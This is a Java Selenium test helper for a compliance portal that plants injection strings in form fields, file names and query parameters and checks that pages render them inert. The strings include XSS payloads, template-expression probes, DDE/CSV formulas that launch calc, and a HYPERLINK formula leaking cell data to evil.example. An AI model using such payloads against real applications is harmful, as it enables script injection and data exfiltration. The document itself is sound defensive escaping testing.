package org.custos.portal.it.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.custos.portal.it.PortalBrowser;
import org.openqa.selenium.JavascriptExecutor;

/**
 * What {@link EscapingIT} plants and how it checks a page rendered it inert. Every planted tag carries a
 * {@code data-es} marker and every planted script or handler sets {@code window.__pwned}; so a page is inert when
 * the DOM holds no element with a marker, no {@code img[src=x]} or {@code svg[onload]}, no iframe, object or embed,
 * no event-handler attribute and no script mentioning {@code __pwned}, no {@code javascript:} URL in a link,
 * source or form target, and {@code window.__pwned} is undefined after the page loaded (an {@code <img src=x>}'s
 * error fires before the load event). The text a person typed must then appear literally (textContent), EL-looking
 * parts unevaluated. The checks read the DOM the browser built, not the HTML source: that is what runs.
 */
final class Inert {

    /**
     * The regulator's status reason: a formula first (CSV injection: the findings CSV has a status_reason column),
     * tags, a script, an attribute break-out, EL and template text, an RTL override.
     */
    static final String REASON = "-2+3+cmd|' /C calc'!A0 <img src=x onerror=\"window.__pwned=11\" data-es=\"r1\"> "
            + "<script data-es=\"r2\">window.__pwned=12</script> \"><svg onload=\"window.__pwned=13\" data-es=\"r3\"> "
            + "{{7*7}} #{7*7} ${7*7} \u202Etxt.exe javascript:window.__pwned=14";
    /** The officer's response: a spreadsheet formula first (CSV injection), an iframe, a quote break-out. */
    static final String NOTE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\") "
            + "<iframe data-es=\"n1\" src=\"javascript:window.__pwned=21\"></iframe> ' onmouseover='window.__pwned=22";
    /** The officer's reference (at most 500 characters): a javascript: URL, one long word, a link. */
    static final String REFERENCE = "javascript:window.__pwned=23//" + "A".repeat(400)
            + "<a data-es=\"n2\" href=\"javascript:window.__pwned=24\">x</a>";
    /** The DPO's case note: a DDE formula first, an object, then 1,700 characters without a break. */
    static final String CASE_NOTE = "+cmd|' /C calc'!A0 <object data-es=\"d1\" data=\"javascript:window.__pwned=31\">"
            + "</object> #{7*7} " + "x".repeat(1700);
    /** An uploaded file's name with a tag (a file name may hold anything but '/'; PrimeFaces refuses < and >). */
    static final String FILE_NAME = "<img src=x onerror=window.__pwned=41 data-es=u1>{{7*7}}.zip";
    /**
     * An uploaded file's name that passes PrimeFaces' check (on Linux it refuses / NUL : * ? \ " &lt; &gt; |): quote
     * break-outs, EL, an entity that must not be decoded twice, an RTL override.
     */
    static final String QUOTED_FILE_NAME = "' onmouseover='window.__pwned=44' data-es='u5' {{7+7}} #{7+7} ${7+7} &amp; "
            + "\u202Egpj.zip";

    /** A bundle document's path (portable: no ':', '\\', '..', control character or leading '/'). */
    static final String DOCUMENT_PATH = "documents/<img src=x onerror=window.__pwned=61 data-es=b1>"
            + "\"><svg onload=window.__pwned=62 data-es=b2>{{7*7}}.pdf";

    /** A report signer's name in X.500 syntax (within the 64 characters of a common name with its prefix). */
    static final String SIGNER_NAME = "<svg onload\\=__pwned\\=71 data-es\\=v1>";
    /** The same name as the certificate holds it. */
    static final String SIGNER_TEXT = "<svg onload=__pwned=71 data-es=v1>";

    /** A query parameter's value: an attribute break-out, tags, template and EL text. */
    static final String PARAMETER = "\"><img src=x onerror=window.__pwned=51 data-es=q1>'"
            + "<svg onload=window.__pwned=52 data-es=q2>{{7*7}}#{7*7}";

    private static final String FINDINGS = String.join("\n",
            "var r = [];",
            "if (typeof window.__pwned !== 'undefined') { r.push('window.__pwned = ' + window.__pwned); }",
            "document.querySelectorAll('[data-es]').forEach(function (e) {",
            "  r.push('planted element ' + e.outerHTML.substring(0, 160)); });",
            "document.querySelectorAll('img[src=\"x\"], svg[onload], iframe, object, embed').forEach(function (e) {",
            "  r.push('planted ' + e.tagName + ': ' + e.outerHTML.substring(0, 160)); });",
            "document.querySelectorAll('*').forEach(function (e) {",
            "  for (var i = 0; i < e.attributes.length; i++) {",
            "    var a = e.attributes[i];",
            "    if (/^on/i.test(a.name) && a.value.indexOf('__pwned') >= 0) {",
            "      r.push('handler ' + a.name + ' on ' + e.tagName); }",
            "    if (/^(href|src|action|formaction|data|xlink:href)$/i.test(a.name)",
            "        && /^\\s*javascript:/i.test(a.value)) {",
            "      r.push('javascript: URL in ' + e.tagName + '.' + a.name); }",
            "  }",
            "});",
            "Array.prototype.forEach.call(document.scripts, function (s) {",
            "  if (s.textContent.indexOf('__pwned') >= 0) { r.push('a script holding __pwned: '",
            "      + s.outerHTML.substring(0, 160)); } });",
            "return r.join('\\n');");

    private Inert() {
    }

    /** Asserts that the page the browser shows holds nothing planted that became markup or ran. */
    static void assertInert(PortalBrowser b, String page) {
        b.waitForAjax();
        String found = (String) ((JavascriptExecutor) b.driver).executeScript(FINDINGS);
        assertEquals("", found, page + " (" + b.url() + ") rendered planted markup or ran a planted script");
    }

    /** The page's whole text as the DOM holds it (textContent: decoded entities, no layout). */
    static String text(PortalBrowser b) {
        return (String) ((JavascriptExecutor) b.driver).executeScript("return document.body.textContent;");
    }

    /** The text of element {@code id} as the DOM holds it. */
    static String text(PortalBrowser b, String id) {
        return (String) ((JavascriptExecutor) b.driver).executeScript(
                "var e = document.getElementById(arguments[0]);"
                        + " return e ? e.textContent : '(no element ' + arguments[0] + ')';",
                id);
    }

    /** Asserts that {@code expected} shows literally in element {@code id} (or the body when null). */
    static void assertLiteral(PortalBrowser b, String id, String expected, String what) {
        String shown = id == null ? text(b) : text(b, id);
        assertTrue(shown.contains(expected), what + " does not show literally in " + (id == null ? "the page" : id)
                + " at " + b.url() + ": expected [" + expected + "] within [" + abbreviate(shown) + "]");
    }

    private static String abbreviate(String s) {
        return s.length() <= 3000 ? s : s.substring(0, 3000) + "...";
    }
}
